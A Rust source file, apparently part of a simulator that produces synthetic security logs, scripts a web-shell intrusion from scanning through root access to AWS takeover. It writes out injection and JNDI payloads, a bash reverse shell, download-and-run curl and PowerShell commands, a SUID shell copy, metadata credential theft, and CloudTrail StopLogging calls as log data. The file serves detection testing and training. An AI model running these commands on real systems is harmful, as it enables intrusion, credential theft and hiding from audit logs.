//! A form that takes any file, and what can be done with it.

use super::{ATTACKER, Stage, Step, Story};
use crate::{
    cloud::{Call, Caller},
    json::{Json, object},
    moment::{Moment, millis, minutes, seconds},
    network::{Alert, Flow},
    servers::{self, Hit, Identity},
    windows::Start,
};

pub(super) static STORY: Story = Story {
    name: "web-shell",
    title: "A web shell, root, and the keys of the cloud",
    summary: "A scanner finds a form of the customers' portal that takes any file. By the shell that is left there the \
              attacker gets a terminal and root, reaches the portal of the resource planning on Windows, reads the \
              machine's credentials, and uses them at AWS from outside.",
    begins_at: 3 * 60 + 5,
    steps: &[
        Step {
            name: "scan",
            after: 0,
            technique: "T1595.002",
            what: "Paths and parameters are tried by a scanner that says its name",
            play: scan,
        },
        Step {
            name: "upload",
            after: 12,
            technique: "T1190",
            what: "A form takes a file that is a program",
            play: upload,
        },
        Step {
            name: "shell",
            after: 14,
            technique: "T1505.003",
            what: "Commands by the file: php-fpm starts shells",
            play: shell,
        },
        Step {
            name: "terminal",
            after: 21,
            technique: "T1059.004",
            what: "A shell that connects back to the attacker",
            play: terminal,
        },
        Step {
            name: "root",
            after: 33,
            technique: "T1548.001",
            what: "A copy of the shell that runs as root for whoever starts it",
            play: root,
        },
        Step {
            name: "next server",
            after: 47,
            technique: "T1505.003",
            what: "A second shell on the Windows server: w3wp starts cmd and PowerShell",
            play: next_server,
        },
        Step {
            name: "credentials",
            after: 60,
            technique: "T1552.005",
            what: "The service that tells machines their credentials is asked",
            play: credentials,
        },
        Step {
            name: "cloud",
            after: 72,
            technique: "T1562.008",
            what: "The credentials are used from outside; a key is made and the trail is stopped",
            play: cloud,
        },
    ],
};

const SHELL: &str = "/uploads/2026/logo.php";

fn hit(stage: &mut Stage<'_>, at: Moment, method: &str, path: &str, status: u32, agent: &str) {
    let hit = Hit {
        at,
        from: ATTACKER,
        method,
        path,
        status,
        bytes: if status == 200 { 1204 } else { 153 },
        referrer: "-",
        agent,
    };
    stage.scene.nginx(hit);
}

fn scan(stage: &mut Stage<'_>, at: Moment) {
    const PATHS: [&str; 12] = [
        "/portal/login?id=1%27%20OR%20%271%27=%271",
        "/portal/orders?page=1%20UNION%20SELECT%20NULL,version()--",
        "/../../../../etc/passwd",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        "/.env",
        "/backup.zip",
        "/admin/config.php",
        "/server-status",
        "/portal/upload.php",
        "/portal/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/index.php?page=php://filter/convert.base64-encode/resource=index",
        "/?x=${jndi:ldap://198.51.100.23/a}",
    ];
    for turn in 0..150 {
        let at = at + millis(2300 * turn);
        let path = PATHS[turn as usize % PATHS.len()];
        let agent = if turn % 2 == 0 {
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
        } else {
            "sqlmap/1.9.9#stable (https://sqlmap.org)"
        };
        let status = if path == "/portal/upload.php" { 200 } else { 404 };
        hit(stage, at, "GET", path, status, agent);
        if turn % 25 == 0 {
            let (flow, uid) = stage.flow(at, ATTACKER, ("10.30.9.11", 443), "ssl", 24_000, 91_000);
            stage.scene.zeek_ssl(&flow, &uid, "www.brackwater.example", "CN=R11,O=Let's Encrypt,C=US");
        }
    }
    let (flow, _) = stage.flow(at + seconds(20), ATTACKER, ("10.30.9.11", 80), "http", 2100, 1700);
    let alert = Alert {
        id: 2_002_677,
        signature: "ET SCAN Nikto Web App Scan in Progress",
        category: "Web Application Attack",
        severity: 1,
    };
    stage.scene.suricata_alert(at + seconds(20), &flow, alert, "http");
}

fn upload(stage: &mut Stage<'_>, at: Moment) {
    hit(stage, at, "POST", "/portal/upload.php", 200, "python-requests/2.32.5");
    let identity = Identity::web_server();
    let host = stage.host("web01");
    servers::exec(
        stage.scene,
        host,
        at + millis(300),
        &identity,
        &["/usr/bin/mv", "/tmp/phpQx81Ld", "/var/www/portal/public/uploads/2026/logo.php"],
    );
}

fn commands(stage: &mut Stage<'_>, at: Moment, list: &[&str]) {
    let host = stage.host("web01");
    let identity = Identity::web_server();
    for (index, command) in list.iter().enumerate() {
        let at = at + seconds(9 * index as i64);
        let path = format!("{SHELL}?cmd={}", command.replace(' ', "%20"));
        hit(stage, at, "GET", &path, 200, "python-requests/2.32.5");
        servers::exec(stage.scene, host, at + millis(60), &identity, &["/usr/bin/sh", "-c", command]);
        let parts: Vec<String> = command.split(' ').map(str::to_owned).collect();
        let program = format!("/usr/bin/{}", parts[0]);
        let parts: Vec<&str> =
            std::iter::once(program.as_str()).chain(parts.iter().skip(1).map(String::as_str)).collect();
        servers::exec(stage.scene, host, at + millis(90), &identity, &parts);
    }
}

fn shell(stage: &mut Stage<'_>, at: Moment) {
    commands(
        stage,
        at,
        &["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /home", "find / -perm -4000 -type f"],
    );
}

fn terminal(stage: &mut Stage<'_>, at: Moment) {
    let host = stage.host("web01");
    let identity = Identity::web_server();
    let command = "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1";
    hit(stage, at, "POST", SHELL, 200, "python-requests/2.32.5");
    servers::exec(stage.scene, host, at + millis(50), &identity, &["/usr/bin/bash", "-c", command]);
    servers::exec(stage.scene, host, at + millis(70), &identity, &["/usr/bin/bash", "-i"]);
    let from = stage.address("web01");
    let port = stage.scene.port();
    let flow = Flow::tcp(at + millis(80), (&from, port), (ATTACKER, 4444), "")
        .carrying(61_000, 9200)
        .lasting(minutes(26));
    stage.scene.connect(&flow);
}

fn root(stage: &mut Stage<'_>, at: Moment) {
    let host = stage.host("web01");
    let identity = Identity::web_server();
    servers::exec(
        stage.scene,
        host,
        at,
        &identity,
        &["/usr/bin/curl", "-s", "-o", "/tmp/.x", "http://198.51.100.23/pk"],
    );
    servers::exec(stage.scene, host, at + seconds(4), &identity, &["/usr/bin/chmod", "+x", "/tmp/.x"]);
    servers::exec(stage.scene, host, at + seconds(6), &identity, &["/tmp/.x"]);
    let root = identity.as_root();
    servers::exec(stage.scene, host, at + seconds(9), &root, &["/usr/bin/cp", "/bin/bash", "/var/tmp/.sh"]);
    servers::exec(stage.scene, host, at + seconds(11), &root, &["/usr/bin/chmod", "u+s", "/var/tmp/.sh"]);
    servers::exec(stage.scene, host, at + seconds(15), &root, &["/var/tmp/.sh", "-p"]);
    servers::exec(stage.scene, host, at + seconds(22), &root, &["/usr/bin/cat", "/etc/shadow"]);
}

fn next_server(stage: &mut Stage<'_>, at: Moment) {
    let server = stage.host("ERP01");
    let (from, to) = (stage.address("web01"), stage.address("ERP01"));
    stage.flow(at, &from, (&to, 443), "ssl", 31_000, 12_000);
    let worker = stage.scene.resident(server, "iis");
    stage.scene.sysmon_file(at + seconds(2), &worker, "C:\\inetpub\\wwwroot\\ErpPortal\\help\\default_.aspx");
    let folder = "C:\\Windows\\System32\\inetsrv\\";
    for (index, command) in
        ["whoami", "ipconfig /all", "net user /domain", "tasklist /v"].into_iter().enumerate()
    {
        let at = at + seconds(20 + 12 * index as i64);
        let cmd = "C:\\Windows\\System32\\cmd.exe";
        let line = format!("\"cmd.exe\" /c {command}");
        let cmd = stage.child(
            at,
            &worker,
            Start {
                integrity: crate::windows::process::Integrity::High,
                ..Start::user(cmd, &line).within(folder)
            },
            900,
        );
        let file = command.split(' ').next().unwrap_or_default();
        let image = format!("C:\\Windows\\System32\\{file}.exe");
        stage.child(at + millis(60), &cmd, Start::elevated(&image, command).within(folder), 500);
    }
    let script = "IWR http://198.51.100.23/t.exe -OutFile C:\\Windows\\Temp\\t.exe; Start-Process C:\\Windows\\Temp\\t.exe";
    let line = format!("powershell -nop -w hidden -c \"{script}\"");
    let image = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    stage.child(at + seconds(80), &worker, Start::elevated(image, &line).within(folder), 4000);
    stage.scene.script_block(at + seconds(81), server, script, "");
    stage.flow(at + seconds(82), &to, (ATTACKER, 80), "http", 400, 88_000);
}

fn credentials(stage: &mut Stage<'_>, at: Moment) {
    let host = stage.host("web01");
    let root = Identity::web_server().as_root();
    for (index, path) in ["", "fleet-api"].into_iter().enumerate() {
        let url = format!("http://169.254.169.254/latest/meta-data/iam/security-credentials/{path}");
        servers::exec(
            stage.scene,
            host,
            at + seconds(8 * index as i64),
            &root,
            &["/usr/bin/curl", "-s", &url],
        );
    }
}

fn cloud(stage: &mut Stage<'_>, at: Moment) {
    let role = Caller::Role("fleet-api", "i-09c1b7f0d3a2264e8");
    let calls: [(&str, &str, Json, bool); 7] = [
        ("sts", "GetCallerIdentity", Json::Null, true),
        ("s3", "ListBuckets", Json::Null, true),
        ("iam", "ListUsers", Json::Null, true),
        ("iam", "CreateUser", object! { "userName": "svc-reporting" }, false),
        ("iam", "CreateAccessKey", object! { "userName": "svc-reporting" }, false),
        (
            "iam",
            "AttachUserPolicy",
            object! { "userName": "svc-reporting", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess" },
            false,
        ),
        (
            "cloudtrail",
            "StopLogging",
            object! { "name": "arn:aws:cloudtrail:eu-north-1:418273650192:trail/org" },
            false,
        ),
    ];
    for (index, (service, name, parameters, is_read_only)) in calls.into_iter().enumerate() {
        let call = Call {
            caller: role,
            service,
            name,
            address: ATTACKER,
            agent: "aws-cli/1.22.34 Python/3.10.12 Linux/6.8.0-kali botocore/1.23.34",
            parameters,
            response: Json::Null,
            is_read_only,
        };
        stage.scene.cloud_trail(at + seconds(35 * index as i64), call);
    }
}
